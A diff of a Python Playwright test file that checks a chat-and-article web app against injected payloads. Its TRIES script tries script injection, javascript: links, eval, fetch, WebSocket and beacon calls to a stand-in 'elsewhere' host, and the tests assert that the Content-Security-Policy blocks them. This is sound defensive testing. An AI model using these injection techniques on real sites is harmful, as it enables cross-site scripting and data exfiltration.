@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
 import json
+import socket
 from collections.abc import Iterator, Sequence
+from urllib.parse import quote
 
 import pytest
-from chromium import MARKS, about, ask, chromium, noting, opened, view, width_scrolled
+from chromium import MARKS, WATCH, about, ask, chromium, noting, opened, ours, view, width_scrolled
 from made_hostile import FILE_NAMES, PAYLOADS, URLS
 from made_views import settings
+from model_server import ModelServer, answers, says
+from page_server import PageServer
 from serving import serving
 
 from rag import intake
@@ -88,7 +93,9 @@ def hostile(number: int, payloads: Sequence[str]) -> Article:
     )
 
 
-ARTICLES = [hostile(number, PAYLOADS[number * 6 : number * 6 + 6]) for number in range(-(-len(PAYLOADS) // 6))]
+EACH = 12  # payloads in an article
+ARTICLES = [hostile(at // EACH, PAYLOADS[at : at + EACH]) for at in range(0, len(PAYLOADS), EACH)]
+QUESTIONS = [f"Who closed the harbour of Osterby? {batch}" for batch in batches(PAYLOADS, 15)]
 
 
 @pytest.fixture(scope="module")
@@ -136,15 +143,20 @@ def words(text: str) -> str:
     return "".join(one for one in text if one.isprintable() and not one.isspace() and one != "\ufffd")
 
 
+def test_there_are_enough_payloads_and_no_question_is_too_long_to_be_asked():
+    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 150
+    assert max(map(len, QUESTIONS)) < 2_000
+
+
 def test_articles_and_questions_attack_the_conversation(page, pipeline: Pipeline):
     ask(page, "Who closed the harbour of Osterby?")
     assert page.locator("#chat a.mark").count() and page.locator("#evidence .card").count()
     inert(page)
-    for batch in batches(PAYLOADS, 12):
-        ask(page, f"Who closed the harbour of Osterby? {batch}"[:1999].replace("\x00", ""))
-    assert page.locator("#chat .question").count() == 7
+    for question in QUESTIONS:
+        ask(page, question.replace("\x00", ""))
+    assert page.locator("#chat .question").count() == 1 + len(QUESTIONS)
     shown = words(page.locator("#chat .question").last.text_content())
-    assert words(batches(PAYLOADS, 12)[-1])[:200] in shown
+    assert words(QUESTIONS[-1])[:200] in shown
     inert(page)
     page.keyboard.press("Tab")  # now the page stays where the reader is
     page.hover("#mark-1-1")
@@ -186,7 +198,7 @@ def test_titles_words_and_files_attack_the_library(page):
     )
     page.wait_for_selector("#shelf-files table")
     inert(page)
-    page.fill("#shelf-addresses textarea", "\n".join(payload.replace("\n", " ") for payload in PAYLOADS[:40]))
+    page.fill("#shelf-addresses textarea", "\n".join(payload.replace("\n", " ") for payload in PAYLOADS))
     page.click("#shelf-add-button")
     page.wait_for_selector("#shelf-added .refused")
 
@@ -244,11 +256,11 @@ def attacking(number: int, attack: str) -> Exchange:
 
 
 def test_kept_conversations_attack_the_page(page):
-    exchanges = [attacking(number, batch) for number, batch in enumerate(batches(PAYLOADS, 4))]
+    exchanges = [attacking(number, batch) for number, batch in enumerate(batches(PAYLOADS, 10))]
     records = [json.loads(talk.kept(Talk(exchanges=(one,)))) for one in exchanges]
     plain = [{**record["exchange"], "markdown": record["markdown"]} for record in records]
     page.evaluate("localStorage.clear()")  # of what the tests before have kept
-    page.evaluate(KEEP, [["kept", *PAYLOADS[:20]], records[0]["filters"], plain, batches(PAYLOADS, 2)[:21]])
+    page.evaluate(KEEP, [["kept", *PAYLOADS[:20]], records[0]["filters"], plain, batches(PAYLOADS, 7)[:21]])
     for broken in ("{", "null", "[]", '{"exchanges": 1}', '{"exchanges": [], "title": {"toString": 1}}'):
         page.evaluate("text => localStorage.setItem(`crosscheck.talk.${text}`, text)", broken)
     page.reload()
@@ -279,3 +291,129 @@ def test_articles_attack_their_reading_page_and_the_pane(page, address: str):
         assert words(page.locator("main#article .text").text_content()) == words(article.text)
         inert(page)
     opened(page, address)
+
+
+def test_a_model_attacks_the_conversation(context, pipeline: Pipeline):
+    """What it writes is shown as it comes and, as no article says it, struck through at the end."""
+    replies = [says(f"Keeper Ada Holm closed the harbour of Osterby {batch} [1].") for batch in batches(PAYLOADS, 20)]
+    with ModelServer(*replies) as server:
+        told = {"openai_base_url": server.base_url, "openai_model": PAYLOADS[0], "unsupported": "mark"}
+        with (
+            Pipeline(pipeline.settings.model_copy(update=told), embedder=pipeline.embedder) as modelled,
+            serving(mount(create_app(modelled), modelled)) as url,
+        ):
+            page = context.new_page()
+            wrong = noting(page, url)
+            opened(page, url)
+            for number in range(len(replies)):
+                ask(page, f"Who closed the harbour of Osterby on Monday, and what was it number {number} for?")
+                inert(page)
+            assert len(server.requests) >= len(replies)
+            assert "hacked" in page.locator("#chat").text_content()
+            page.evaluate("localStorage.clear()")
+            page.close()
+            assert wrong == []
+
+
+DOCUMENTS = (
+    "/read/{}",
+    "/read/x?revision={}&start={}&end={}&also={}&since={}",
+    "/search?query={}",
+    "/articles?words={}",
+)
+OPENED = """([tags]) => [window.hacked, location.origin, ...[...document.querySelectorAll('body *')]
+  .filter(e => !tags.includes(e.localName) || [...e.attributes].some(({name}) => /^on/i.test(name)))
+  .map(e => e.outerHTML)]"""
+
+
+def test_addresses_attack_every_document_that_the_server_has(context, address: str):
+    page = context.new_page()
+    page.add_init_script(WATCH)
+    elsewhere: list[str] = []
+    page.on("request", lambda request: None if ours(request.url, address) else elsewhere.append(request.url))
+    page.on("dialog", lambda shown: elsewhere.append(shown.message) or shown.dismiss())
+    for batch in batches([payload.replace("\x00", "") for payload in PAYLOADS], 16):
+        for document in DOCUMENTS:
+            page.goto(address + document.replace("{}", quote(batch, safe="")))
+            shown = page.evaluate(OPENED, [[*TAGS, "pre", "main", "div"]])
+            assert shown == [None, address], document
+        page.goto(f"{address}/?talk={quote(batch)}&__theme={quote(batch)}&deep_link={quote(batch)}#{batch}")
+        page.wait_for_selector("#latest h2, #latest .trouble")
+        inert(page)
+    page.close()
+    assert elsewhere == []
+
+
+# What a script of somebody else's would try, were it to get into the page after all.
+TRIES = """async elsewhere => {
+  const tell = new Promise(done => setTimeout(done, 200));
+  const added = (name, attributes, inner = '') => {
+    const e = document.createElement(name);
+    for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
+    e.append(inner);
+    document.body.append(e);
+    return e;
+  };
+  added('script', {}, 'window.hacked = 1');
+  added('script', {src: `${elsewhere}/a.js`});
+  added('script', {src: 'data:text/javascript,window.hacked=1'});
+  added('script', {src: URL.createObjectURL(new Blob(['window.hacked = 1']))});
+  added('div', {onclick: 'window.hacked = 1'}).click();
+  added('a', {href: 'javascript:window.hacked=1'}).click();
+  added('iframe', {src: `${elsewhere}/`});
+  added('iframe', {src: 'javascript:parent.hacked=1'});
+  added('object', {data: `${elsewhere}/`});
+  added('embed', {src: `${elsewhere}/`});
+  added('img', {src: `${elsewhere}/i.png`});
+  added('video', {src: `${elsewhere}/v.mp4`});
+  added('link', {rel: 'stylesheet', href: `${elsewhere}/s.css`});
+  added('style', {}, `@import '${elsewhere}/i.css'; @font-face {font-family: f; src: url('${elsewhere}/f')}`);
+  added('p', {style: 'font-family: f'}, 'x');
+  added('form', {action: `${elsewhere}/`, method: 'post'}).submit();
+  const failed = []; // later: what a test does at once may evaluate
+  const later = work => new Promise((done, fails) =>
+    setTimeout(() => { try { done(work()); } catch (error) { fails(error); } }));
+  for (const [name, attempt] of Object.entries({
+    eval: () => later(() => eval('window.hacked = 1')),
+    Function: () => later(() => new Function('window.hacked = 1')()),
+    fetch: () => fetch(`${elsewhere}/f`, {mode: 'no-cors'}),
+    socket: () => new Promise((opens, fails) => Object.assign(new WebSocket(elsewhere.replace('http', 'ws')),
+      {onopen: opens, onerror: fails})),
+    worker: () => new Promise((starts, fails) => Object.assign(new Worker('data:text/javascript,postMessage(1)'),
+      {onmessage: starts, onerror: fails})),
+  })) try { await attempt(); } catch { failed.push(name); }
+  navigator.sendBeacon(`${elsewhere}/b`, 'x');
+  await tell;
+  return [failed, window.hacked ?? null, [...new Set(window.refused.map(one => one.split(' ')[0]))].sort()];
+}"""
+
+
+def test_the_policy_holds_for_a_script_that_got_in(context, address: str):
+    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
+        page = context.new_page()
+        noting(page, address)
+        opened(page, address)
+        failed, hacked, refused = page.evaluate(TRIES, f"http://127.0.0.1:{elsewhere.getsockname()[1]}")
+        page.close()
+        assert failed == ["eval", "Function", "fetch", "socket", "worker"]
+        assert hacked is None
+        assert {"script-src-elem", "script-src-attr", "frame-src", "img-src", "connect-src", "form-action"} <= {
+            *refused
+        }
+        assert {"style-src-elem", "media-src", "object-src"} <= {*refused}
+        elsewhere.setblocking(False)  # a browser may open a connection in good time; nothing may be asked on it
+        with contextlib.suppress(BlockingIOError):
+            while True:
+                met, _ = elsewhere.accept()
+                with met, contextlib.suppress(BlockingIOError, ConnectionResetError):
+                    met.setblocking(False)
+                    assert met.recv(1 << 16) == b""
+
+
+def test_no_other_page_frames_ours(context, address: str):
+    framing = answers(f"<iframe src='{address}/'></iframe><iframe src='{address}/read/x'></iframe>", kind="text/html")
+    with PageServer({"/": framing}) as elsewhere:
+        page = context.new_page()
+        page.goto(f"{elsewhere.base_url}/")
+        assert all(frame.locator("main, #chat").count() == 0 for frame in page.frames[1:]) and len(page.frames) == 3
+        page.close()
